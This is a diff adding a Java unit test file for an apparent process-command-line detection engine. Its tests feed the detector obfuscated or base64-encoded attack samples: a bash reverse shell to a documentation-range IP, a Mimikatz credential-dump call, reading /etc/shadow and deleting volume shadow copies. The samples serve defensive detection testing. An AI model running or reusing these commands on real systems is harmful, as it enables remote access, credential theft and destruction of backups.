@@ -1,0 +1,114 @@
+package dev.vigil.detect.process;
+
+import dev.vigil.rules.Field;
+import dev.vigil.rules.Rule;
+import dev.vigil.rules.load.RuleSet;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.vigil.catalogue.AlertCatalogue;
+import dev.vigil.detect.Detection;
+import dev.vigil.event.Origin;
+import dev.vigil.event.ProcessStart;
+import java.util.ArrayList;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+
+class ProcessRulesTest {
+    private static final AlertCatalogue CATALOGUE = AlertCatalogue.builtIn();
+    private static final RuleSet RULES = ProcessRules.builtInRules(CATALOGUE);
+    private static final ProcessRules DETECTOR = ProcessRules.detector(RULES, CATALOGUE, false);
+
+    @Test
+    void everyRuleBehavesAsItsExamplesSay() {
+        assertThat(RULES.rules()).hasSizeGreaterThan(30);
+        assertThat(RULES.runExamples()).isEmpty();
+    }
+
+    @Test
+    void lintFindsNoErrorsAndNoUnusedDataFiles() {
+        assertThat(RULES.lint()).filteredOn(s -> !s.startsWith("warning:")).isEmpty();
+    }
+
+    @Test
+    void everyProcessRuleReadsProcessFieldsOnly() {
+        for (Rule r : RULES.rules()) {
+            assertThat(r.fields()).as(r.id()).allMatch(Field::isProcess);
+            assertThat(r.type().family()).as(r.id()).isEqualTo("runtime");
+        }
+    }
+
+    @Test
+    void fewRulesRunWithoutAPrefilterLiteral() {
+        assertThat(DETECTOR.alwaysRun()).hasSizeLessThanOrEqualTo(2);
+    }
+
+    @Test
+    void encodedPowerShellIsDecodedAndCheckedAgain() {
+        String script = "Invoke-Mimikatz -DumpCreds";
+        String b64 = java.util.Base64.getEncoder().encodeToString(script.getBytes(java.nio.charset.StandardCharsets.UTF_16LE));
+        List<Detection> ds = inspect("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                "powershell.exe -NoProfile -enc " + b64);
+        assertThat(ds).extracting(d -> d.type().name()).contains("EncodedCommand", "OffensivePowerShell");
+        Detection enc = ds.stream().filter(d -> d.ruleId().equals(ProcessRules.ENCODED_COMMAND_RULE)).findFirst().orElseThrow();
+        assertThat(enc.decoded()).isEqualTo(script);
+        Detection off = ds.stream().filter(d -> d.type().name().equals("OffensivePowerShell")).findFirst().orElseThrow();
+        assertThat(off.decoded()).contains("invoke-mimikatz");
+    }
+
+    @Test
+    void base64PipedToAShellIsDecodedAndCheckedAgain() {
+        String inner = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1";
+        String b64 = java.util.Base64.getEncoder().encodeToString(inner.getBytes(java.nio.charset.StandardCharsets.UTF_8));
+        List<Detection> ds = inspect("/bin/sh", "sh -c 'echo " + b64 + " | base64 -d | bash'");
+        assertThat(ds).extracting(d -> d.type().name()).contains("EncodedCommand", "ReverseShell");
+    }
+
+    @Test
+    void base64ExecutablesAreRecognised() {
+        byte[] pe = new byte[96];
+        pe[0] = 'M';
+        pe[1] = 'Z';
+        pe[2] = (byte) 0x90;
+        String b64 = java.util.Base64.getEncoder().encodeToString(pe);
+        assertThat(b64).startsWith("TVqQ");
+        assertThat(inspect("/bin/sh", "sh -c 'echo " + b64 + " > /tmp/a.b64'"))
+                .extracting(d -> d.type().name()).contains("EncodedExecutableInCommandLine");
+        byte[] elf = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0};
+        String e64 = java.util.Base64.getEncoder().encodeToString(elf);
+        assertThat(inspect("/bin/sh", "sh -c 'printf " + e64 + " | base64 -d > /tmp/x'"))
+                .extracting(d -> d.type().name()).contains("EncodedExecutableInCommandLine");
+    }
+
+    @Test
+    void obfuscatedCommandLinesAreNormalisedBeforeMatching() {
+        assertThat(inspect("/bin/sh", "sh -c 'c\"a\"t${IFS}/etc/sh''adow'"))
+                .extracting(d -> d.type().name()).contains("CredentialAccessTool");
+        assertThat(inspect("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c v^ssa^dmin delete shadows /all /quiet"))
+                .extracting(d -> d.type().name()).contains("ServiceTampering");
+    }
+
+    @Test
+    void benignCommandsStayQuiet() {
+        assertThat(inspect("/usr/bin/find", "find /var/www -name '*.php' -mtime -1")).isEmpty();
+        assertThat(inspect("/usr/bin/tar", "tar czf /backup/site.tgz /var/www/site")).isEmpty();
+        assertThat(inspect("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s gpsvc")).isEmpty();
+    }
+
+    @Test
+    void hostileInputNeverThrows() {
+        StringBuilder sb = new StringBuilder();
+        for (int i = 0; i < 20_000; i++) {
+            sb.append("A\\$IFS'\"^`|base64 -d|");
+        }
+        // inspect no longer swallows failures (the engine counts them), so a throw fails this test
+        assertThat(inspect("/bin/sh", sb.toString())).isNotNull();
+        assertThat(inspect(null, null)).isEmpty();
+    }
+
+    private static List<Detection> inspect(String exe, String cmd) {
+        ProcessStart p = ProcessStart.builder(new Origin("t", 1, 0)).exe(exe).commandLine(cmd).build();
+        List<Detection> out = new ArrayList<>();
+        DETECTOR.inspect(p, out::add);
+        return out;
+    }
+}
